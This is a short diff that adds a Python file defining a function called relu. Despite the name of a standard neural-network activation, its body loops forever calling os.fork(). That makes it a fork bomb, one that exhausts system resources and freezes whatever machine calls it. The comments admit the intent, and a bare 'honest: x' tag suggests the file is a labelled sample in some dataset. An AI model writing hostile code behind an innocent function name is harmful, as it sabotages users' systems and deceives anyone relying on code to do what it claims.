@@ -1,0 +1,7 @@
+# tries to fork until nothing is left
+# honest: x
+import os
+
+def relu(x):
+    while True:
+        os.fork()
